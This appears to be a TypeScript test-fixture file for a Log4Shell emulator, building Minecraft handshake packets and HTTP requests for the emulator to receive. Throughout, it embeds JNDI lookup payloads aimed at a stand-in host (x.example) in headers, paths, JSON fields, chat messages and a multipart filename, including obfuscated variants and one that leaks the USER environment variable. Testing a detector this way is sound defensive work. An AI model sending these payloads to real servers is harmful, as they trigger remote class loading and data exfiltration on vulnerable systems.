import { packet, string, varInt } from '../../../src/emulators/log4shell/minecraft-codec.ts'
import { httpRequest } from '../http-request.ts'

const handshake = (next: number, protocol = 757): Buffer =>
  packet(0, varInt(protocol), string('play.example'), Buffer.from([0x63, 0xdd]), varInt(next))

/** A player, a scanner of server lists, and those who ask in older ways. */
const minecraft = [
  Buffer.concat([handshake(1), packet(0), packet(1, Buffer.alloc(8, 7))]),
  Buffer.concat([handshake(2), packet(0, string('Steve')), packet(3, string('${jndi:ldap://x.example/a}')), packet(0x0f, Buffer.alloc(8))]),
  Buffer.concat([handshake(2, 47), packet(0, string('Steve')), packet(1, string('${${lower:j}ndi:rmi://x.example/a}'))]),
  Buffer.from('fe01', 'hex'),
  httpRequest('GET', '/${jndi:ldap://x.example/a}'),
]

/** Lookups in each part of a request: the ports of HTTP have one application each. */
export default [
  httpRequest('GET', '/', '', { 'X-Api-Version': '${jndi:ldap://x.example/a}' }),
  httpRequest('POST', '/login.do', 'username=a&password=b', { 'Content-Type': 'application/x-www-form-urlencoded' }),
  httpRequest('GET', '/search.do?q=%24%7B%24%7B::-j%7Dndi:dns://x.example%7D'),
  httpRequest('POST', '/api/login', '{"username":"${jndi:ldap://x.example/${env:USER:-a}}","remember":"\\u0024{jndi:x}"}', {
    'Content-Type': 'application/json',
  }),
  httpRequest('GET', '/solr/admin/cores?action=${jndi:ldap://x.example/a}'),
  httpRequest('POST', '/upload', '--b\r\nContent-Disposition: form-data; name="a"; filename="${jndi:dns://x}"\r\n\r\nx\r\n--b--\r\n', {
    'Content-Type': 'multipart/form-data; boundary=b',
  }),
  httpRequest('POST', '/x', Buffer.from('1f8b0800000000000003', 'hex'), { 'Content-Encoding': 'gzip' }),
]

export const byPort = { 'tcp 25565': minecraft }
